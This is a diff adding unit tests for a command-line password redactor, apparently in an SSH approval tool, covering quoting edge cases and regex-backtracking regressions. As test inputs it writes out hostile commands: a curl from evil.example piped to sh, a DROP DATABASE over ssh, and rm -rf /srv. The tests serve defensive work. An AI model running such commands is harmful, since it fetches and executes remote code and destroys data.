@@ -111,3 +111,28 @@ describe('what a flag named for a secret does not hide', () => {
     expect(redactCommandLine('mysqladmin --password hunter2 status')).toBe('mysqladmin --password [redacted] status');
   });
 });
+
+describe('a hostile SSH client\'s command line (found by review)', () => {
+  it('a redaction crossing a nested script\'s quotes hides that part only, never the whole script from an approver', () => {
+    expect(redactCommandLine(`sh -c "mysql -p'x'y db; curl -s https://evil.example/x.sh | sh"`)).toBe(`sh -c "mysql -p'[redacted] db; curl -s https://evil.example/x.sh | sh"`);
+    expect(redactCommandLine(`ssh db1 "mysql -p'x'y db; DROP DATABASE"`)).toBe(`ssh db1 "mysql -p'[redacted] db; DROP DATABASE"`);
+    expect(redactCommandLine(`bash -c 'curl -u ann:"p"w https://x; rm -rf /srv'`)).toBe(`bash -c 'curl -u ann:"[redacted] https://x; rm -rf /srv'`);
+    // A JSON body in a quoted word: its closing brace stays.
+    expect(redactCommandLine(`echo '{"password": "x"}'`)).toBe(`echo '{"password": [redacted]}'`);
+  });
+
+  // As long as ssh2 lets an exec request be (its 35,000-byte packets). Before, names around a secret keyword were read
+  // by a pattern that backtracked cubically (`.pass` repeated over 34 KB ran for minutes, every session stalled) and a
+  // printf feeding chpasswd was walked once per argument: these now read through as any line.
+  it('reads a long run of secret keywords, a long printf format and many pipes as any line', () => {
+    const keywords = `echo ${'.pass'.repeat(6800)}`;
+    expect(redactCommandLine(keywords)).toBe(keywords);
+    expect(redactCommandLine(`x${'apassword.'.repeat(3400)}=hunter2`)).toBe(`x${'apassword.'.repeat(3400)}=[redacted]`);
+    const printf = redactCommandLine(`printf 'ann:%s\\n${'#'.repeat(17000)}' ${'pw '.repeat(8500)}| chpasswd`);
+    expect(printf).not.toMatch(/ pw /);
+    expect(printf.endsWith('| chpasswd')).toBe(true);
+    const pipes = 'echo a:b | '.repeat(1550) + 'chpasswd | '.repeat(1550);
+    expect(redactCommandLine(pipes).length).toBeGreaterThan(0);
+    expect(redactCommandLine(`curl ${'a://b:c'.repeat(5000)}`)).toBe(`curl ${'a://b:c'.repeat(5000)}`);
+  });
+});
